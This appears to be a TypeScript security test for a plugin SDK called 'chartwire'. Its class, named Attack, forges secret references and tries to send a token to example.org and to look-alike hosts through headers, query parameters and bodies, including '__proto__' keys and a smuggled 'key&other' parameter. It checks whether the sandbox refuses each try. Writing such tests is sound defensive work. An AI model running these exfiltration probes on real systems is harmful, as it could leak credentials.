// Makes references of its own: to what is no secret, in places where none may be, in shapes that no SDK makes.

import { BaseProtocol, EventType } from 'chartwire/sdk';

export class Attack extends BaseProtocol {
  static override readonly RESPONDS_TO = [EventType.PATIENT_CREATED];

  async compute() {
    const PARTS = Symbol.for('chartwire.secret');
    const forge = (...parts: unknown[]) => ({ [PARTS]: parts }) as never;
    const token = { secret: 'TOKEN' };
    const tries = [
      { headers: { 'x-key': forge(token) } },
      { headers: { 'x-key': forge({ base64: [token] }) } },
      { headers: { authorization: forge({ secret: 'PATH' }) } },
      { headers: { authorization: forge({ secret: '__proto__' }) } },
      { headers: { authorization: forge({ secret: 'constructor' }) } },
      { headers: { authorization: forge({ hmac: 'TOKEN', before: '', encoding: 'hex' }) } },
      { query: { other: forge(token) } },
      { query: { 'key&other': forge(token) } },
      { method: 'POST', body: forge({ hmac: 'TOKEN', before: '', encoding: 'base64' }) },
    ];
    const seen: string[] = [];
    for (const request of tries) {
      seen.push(
        await this.http.fetch('https://example.org/', request as never).then(
          () => 'answered',
          () => 'refused',
        ),
      );
    }
    for (const host of ['https://example.org:444/', 'https://other.example.org/', 'https://example.org.example.net/']) {
      const request = { headers: { authorization: forge(token) } };
      seen.push(
        await this.http.fetch(host, request).then(
          () => 'answered',
          () => 'refused',
        ),
      );
    }
    return [{ type: 'SEEN', payload: seen.filter((one) => one !== 'refused') }] as never;
  }
}
